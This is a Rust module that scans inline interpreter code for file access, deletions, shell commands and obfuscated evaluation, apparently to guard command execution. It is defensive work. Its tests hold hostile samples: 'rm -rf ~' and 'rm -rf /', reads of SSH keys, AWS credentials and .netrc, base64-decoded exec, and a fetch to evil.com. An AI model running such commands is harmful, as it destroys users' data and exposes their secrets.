//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`, awk
//! programs): what its literals show it does with files and commands.
//!
//! This is a scan, not an interpreter: string literals that name paths are reads; literals in
//! a writing, deleting or command-running call are writes, deletions or shell commands (which
//! are then analysed like any other); a command-running or code-evaluating call whose
//! argument is not a literal, or decoding feeding evaluation, is code nobody can read now.
//! What the scan cannot decide is left to the rules (`code_matches`) that look for protected
//! names in the text, and to an OS sandbox beneath.

mod calls;
mod fold;

use std::sync::LazyLock;

use regex::Regex;

use crate::command::UNKNOWN;
use calls::{compiled, Compiled};
pub(crate) use fold::fold_constants;

/// An interpreter language.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lang {
    Python,
    Js,
    Perl,
    Ruby,
    Php,
    Awk,
}

impl Lang {
    pub(crate) fn of(program: &str) -> Option<Lang> {
        let p = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        Some(match p {
            "python" | "pypy" => Lang::Python,
            "node" | "nodejs" | "bun" | "deno" => Lang::Js,
            "perl" => Lang::Perl,
            "ruby" | "jruby" => Lang::Ruby,
            "php" => Lang::Php,
            "awk" | "gawk" | "mawk" | "nawk" => Lang::Awk,
            _ => return None,
        })
    }
}

/// What a piece of inline code does, as far as its literals show.
#[derive(Debug, Default, PartialEq)]
pub(crate) struct Scan {
    /// Shell command lines it runs.
    pub shell: Vec<String>,
    /// Programs it runs directly, argv form.
    pub argvs: Vec<Vec<String>>,
    /// Paths its literals name.
    pub reads: Vec<String>,
    pub writes: Vec<String>,
    /// Paths it removes as whole trees.
    pub deletes: Vec<String>,
    /// Why some of what it runs cannot be read now.
    pub dynamic: Option<String>,
}

static LITERAL: LazyLock<Regex> =
    LazyLock::new(|| crate::pattern(r#"'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)""#));

static DECODE: LazyLock<Regex> = LazyLock::new(|| {
    crate::pattern(
        r"(?i)b64decode|base64|fromCharCode|\batob\b|unhexlify|fromhex|codecs\.decode|rot13|\bchr\(|\[::-1\]|\bunpack\(|\bpack\(|decodeURIComponent|String\.fromCodePoint|reverse\(\)",
    )
});

/// The literal strings of code, unescaped.
fn literals(code: &str) -> Vec<String> {
    LITERAL
        .captures_iter(code)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| unescape(m.as_str()))
        .collect()
}

/// The literals that stand for a whole value: not a fragment glued to others at run time
/// (`h + '/.ssh'`, `path.join(h, '.ssh')`), which the `code_matches` rules look at instead.
fn whole_literals(code: &str) -> Vec<String> {
    static JOIN: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern(r"\bjoin\s*\(|\bresolve\s*\(|\bPath\s*\("));
    let joined: Vec<(usize, usize)> = JOIN
        .find_iter(code)
        .map(|m| (m.end(), m.end() + call_args(code, m.end()).len()))
        .collect();
    LITERAL
        .captures_iter(code)
        .filter_map(|c| {
            let whole = c.get(0)?;
            let before = code[..whole.start()].trim_end();
            let after = code[whole.end()..].trim_start();
            let glued = before.ends_with('+')
                || after.starts_with('+')
                || before.ends_with('.')
                || after.starts_with(". ")
                || joined
                    .iter()
                    .any(|(s, e)| whole.start() >= *s && whole.end() <= *e);
            if glued {
                return None;
            }
            c.get(1).or_else(|| c.get(2)).map(|m| unescape(m.as_str()))
        })
        .collect()
}

fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(o) => out.push(o),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// The text of a call's arguments: from just after the opening bracket to its match (or
/// to the end of the line for a call without parentheses).
fn call_args(code: &str, start: usize) -> &str {
    let bytes = code.as_bytes();
    let open = bytes.get(start.wrapping_sub(1)).copied();
    if matches!(open, Some(b'\'' | b'"' | b'[')) {
        // A call without parentheses: the argument starts with the quote just matched.
        let from = start - 1;
        let end = code[from..]
            .find(['\n', ';'])
            .map_or(code.len(), |i| from + i);
        return &code[from..end];
    }
    let close = match open {
        Some(b'(') => b')',
        Some(b'{') => b'}',
        _ => {
            let end = code[start..]
                .find(['\n', ';'])
                .map_or(code.len(), |i| start + i);
            return &code[start..end];
        }
    };
    let mut depth = 1;
    let mut quote: Option<u8> = None;
    let mut i = start;
    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(_) if b == b'\\' => i += 1,
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None if b == b'\'' || b == b'"' || b == b'`' => quote = Some(b),
            None if b == open.unwrap_or(b'(') => depth += 1,
            None if b == close => {
                depth -= 1;
                if depth == 0 {
                    return &code[start..i];
                }
            }
            None => {}
        }
        i += 1;
    }
    &code[start..]
}

/// Whether the first argument of a call is a literal string (or a list of them).
fn first_is_literal(args: &str) -> bool {
    let a = args.trim_start();
    let a = a.strip_prefix('[').unwrap_or(a).trim_start();
    a.starts_with(['\'', '"'])
}

/// Whether a literal looks like a path someone would open.
fn pathlike(s: &str) -> bool {
    !s.is_empty()
        && s.len() < 4096
        && !s.contains(['\n', ' ', '\t'])
        && !s.contains("://")
        && !s.starts_with('-')
}

/// Scans `code` written in `lang`. Code it evaluates is scanned too, a few levels deep.
pub(crate) fn scan(code: &str, lang: Lang) -> Scan {
    let mut out = Scan::default();
    scan_into(code, lang, &mut out, 0);
    out
}

/// Scans `code` into `out`; `depth` counts the evaluations it is nested in.
fn scan_into(code: &str, lang: Lang, out: &mut Scan, depth: usize) {
    const MAX_DEPTH: usize = 4;
    if depth > MAX_DEPTH {
        out.dynamic = Some("inline code nested too deep to read".to_owned());
        return;
    }
    let c = compiled(lang);
    out.reads
        .extend(whole_literals(code).into_iter().filter(|s| pathlike(s)));
    command_calls(code, lang, &c.shell, out);
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
        backtick_commands(code, out);
    }
    if lang == Lang::Awk {
        awk_pipes_and_redirects(code, out);
    }
    eval_calls(code, lang, &c.eval, out, depth);
    file_calls(code, c, out);
    open_for_writing(code, out);
    let runs = c.shell.is_match(code) || c.eval.is_match(code);
    if runs && DECODE.is_match(code) {
        out.dynamic = Some("inline code decodes text and runs it".to_owned());
    }
}

/// Calls that run a command: a literal command line is a shell command, a literal list (or
/// several literal arguments) an argv; anything else is a command built at run time.
fn command_calls(code: &str, lang: Lang, calls: &Regex, out: &mut Scan) {
    for m in calls.find_iter(code) {
        let args = call_args(code, m.end());
        if !first_is_literal(args) {
            out.dynamic = Some("inline code runs a command built at run time".to_owned());
            continue;
        }
        let lits = literals(args);
        let trimmed = args.trim_start();
        if trimmed.starts_with('[')
            || (lits.len() > 1
                && matches!(lang, Lang::Js | Lang::Perl | Lang::Ruby)
                && !args.contains("shell"))
        {
            // An argv: a list, or `spawn('rm', ['-rf', x])`, or perl's `system('rm', '-rf', $x)`.
            let mut argv = lits;
            let elements = trimmed.matches(',').count() + 1;
            if argv.len() < elements && trimmed.starts_with('[') {
                argv.push(UNKNOWN.to_string());
            }
            out.argvs.push(argv);
        } else if let Some(first) = lits.into_iter().next() {
            out.shell.push(first);
        }
    }
}

/// Perl's, Ruby's and PHP's `` `cmd` ``: a shell command (built at run time when it
/// interpolates).
fn backtick_commands(code: &str, out: &mut Scan) {
    static BACKTICK: LazyLock<Regex> = LazyLock::new(|| crate::pattern(r"`([^`]*)`"));
    for cap in BACKTICK.captures_iter(code) {
        let text = &cap[1];
        if text.contains(['$', '#', '{']) {
            out.dynamic = Some("inline code runs a command built at run time".to_owned());
        } else {
            out.shell.push(text.to_owned());
        }
    }
}

/// awk's `"cmd" | getline` and `print | "cmd"` (shell commands) and `print > "file"` (writes).
fn awk_pipes_and_redirects(code: &str, out: &mut Scan) {
    static AWK_PIPE: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern(r#""([^"]*)"\s*\|\s*getline|\|\s*"([^"]*)""#));
    for cap in AWK_PIPE.captures_iter(code) {
        if let Some(m) = cap.get(1).or_else(|| cap.get(2)) {
            out.shell.push(m.as_str().to_owned());
        }
    }
    static AWK_REDIRECT: LazyLock<Regex> = LazyLock::new(|| crate::pattern(r#">>?\s*"([^"]*)""#));
    for cap in AWK_REDIRECT.captures_iter(code) {
        out.writes.push(cap[1].to_owned());
    }
}

/// Calls that evaluate code of the same language: a literal is scanned one level deeper;
/// anything else is code built at run time.
fn eval_calls(code: &str, lang: Lang, calls: &Regex, out: &mut Scan, depth: usize) {
    for m in calls.find_iter(code) {
        let args = call_args(code, m.end());
        if first_is_literal(args) {
            for lit in literals(args).into_iter().take(1) {
                scan_into(&fold_constants(&lit, lang), lang, out, depth + 1);
            }
        } else {
            out.dynamic = Some("inline code evaluates code built at run time".to_owned());
        }
    }
}

/// Calls that delete trees, modify or write files: their literal paths (unknown when none).
fn file_calls(code: &str, c: &Compiled, out: &mut Scan) {
    for (re, deletes) in [
        (&c.delete_tree, true),
        (&c.modify, false),
        (&c.write, false),
    ] {
        for m in re.find_iter(code) {
            let args = call_args(code, m.end());
            let lits: Vec<String> = literals(args).into_iter().filter(|s| pathlike(s)).collect();
            if lits.is_empty() {
                // A path only known at run time: unknown where it matters.
                out.writes.push(UNKNOWN.to_string());
                if deletes {
                    out.deletes.push(UNKNOWN.to_string());
                }
            }
            for l in lits {
                if deletes {
                    out.deletes.push(l.clone());
                }
                out.writes.push(l);
            }
        }
    }
}

/// `open(PATH, 'w')`, `open(F, '>', PATH)`, `open(F, ">PATH")`, `fopen(PATH, 'a')`.
fn open_for_writing(code: &str, out: &mut Scan) {
    static OPEN: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern(r"\b(?:open|fopen|File\.open|io\.open)\s*\("));
    for m in OPEN.find_iter(code) {
        let args = call_args(code, m.end());
        let lits = literals(args);
        let mode_write = lits.iter().any(|l| {
            l.len() <= 3
                && (l.starts_with(['w', 'a', 'x']) || l.contains('+') || l.starts_with('>'))
        });
        for l in &lits {
            if let Some(p) = l
                .strip_prefix(">>")
                .or_else(|| l.strip_prefix('>'))
                .or_else(|| l.strip_prefix("+<"))
            {
                let p = p.trim();
                if pathlike(p) {
                    out.writes.push(p.to_owned());
                }
            } else if mode_write && pathlike(l) && l.len() > 3 {
                out.writes.push(l.clone());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_constants_are_joined_before_the_scan() {
        assert_eq!(
            fold_constants("os.environ['GITHUB_'+'TOKEN'] + x", Lang::Python),
            "os.environ['GITHUB_TOKEN'] + x"
        );
        assert_eq!(
            fold_constants(r#"fetch("http://e" + "vil" + ".com/" + path)"#, Lang::Js),
            r#"fetch("http://evil.com/" + path)"#
        );
        assert_eq!(
            fold_constants(
                "open(os.path.join(h, '.s' 'sh', 'id_' + 'rsa'))",
                Lang::Python
            ),
            "open(os.path.join(h, '.ssh', 'id_rsa'))"
        );
        assert_eq!(
            fold_constants(r#"$f = "/.s" . "sh";"#, Lang::Perl),
            r#"$f = "/.ssh";"#
        );
        // Whatever their quotes, and a quote of the other kind inside one stays in it.
        assert_eq!(fold_constants(r#"'a' + "b""#, Lang::Python), "'ab'");
        assert_eq!(
            fold_constants(r#"print("it's" + 'x')"#, Lang::Python),
            r#"print('it\'sx')"#
        );
        // A prefixed literal (an f-string with a variable, bytes) is not joined.
        assert_eq!(
            fold_constants("f'{h}/' + '.ssh'", Lang::Python),
            "f'{h}/' + '.ssh'"
        );
    }

    #[test]
    fn python_literals_calls_and_dynamic_code() {
        let s = scan(
            "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
            Lang::Python,
        );
        assert!(s.reads.contains(&"~/.ssh/id_rsa".to_owned()), "{s:?}");
        let s = scan(
            "import shutil,os; shutil.rmtree(os.path.expanduser('~'))",
            Lang::Python,
        );
        assert_eq!(s.deletes, ["~"]);
        let s = scan("import os; os.system('rm -rf ~')", Lang::Python);
        assert_eq!(s.shell, ["rm -rf ~"]);
        let s = scan(
            "import subprocess; subprocess.run(['rm','-rf','/'])",
            Lang::Python,
        );
        assert_eq!(s.argvs, [vec!["rm", "-rf", "/"]]);
        let s = scan("import os,sys; os.system(sys.stdin.read())", Lang::Python);
        assert!(s.dynamic.is_some());
        let s = scan(
            "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
            Lang::Python,
        );
        assert!(s.dynamic.is_some());
        let s = scan("open('out.txt','w').write('x')", Lang::Python);
        assert_eq!(s.writes, ["out.txt"]);
        assert_eq!(scan("print(1+1)", Lang::Python), Scan::default());
    }

    #[test]
    fn other_languages() {
        let s = scan(
            "require('fs').readFileSync('/h/.aws/credentials')",
            Lang::Js,
        );
        assert!(s.reads.contains(&"/h/.aws/credentials".to_owned()));
        let s = scan(
            "require('child_process').execSync('cat ~/.netrc')",
            Lang::Js,
        );
        assert_eq!(s.shell, ["cat ~/.netrc"]);
        let s = scan("system('rm -rf ~')", Lang::Perl);
        assert_eq!(s.shell, ["rm -rf ~"]);
        let s = scan("print `cat ~/.ssh/id_rsa`", Lang::Ruby);
        assert_eq!(s.shell, ["cat ~/.ssh/id_rsa"]);
        let s = scan("{system($0)}", Lang::Awk);
        assert!(s.dynamic.is_some());
        let s = scan(r#"BEGIN{system("rm -rf ~")}"#, Lang::Awk);
        assert_eq!(s.shell, ["rm -rf ~"]);
        assert_eq!(Lang::of("python3.12"), Some(Lang::Python));
        assert_eq!(Lang::of("nodejs"), Some(Lang::Js));
        assert_eq!(Lang::of("cat"), None);
    }
}
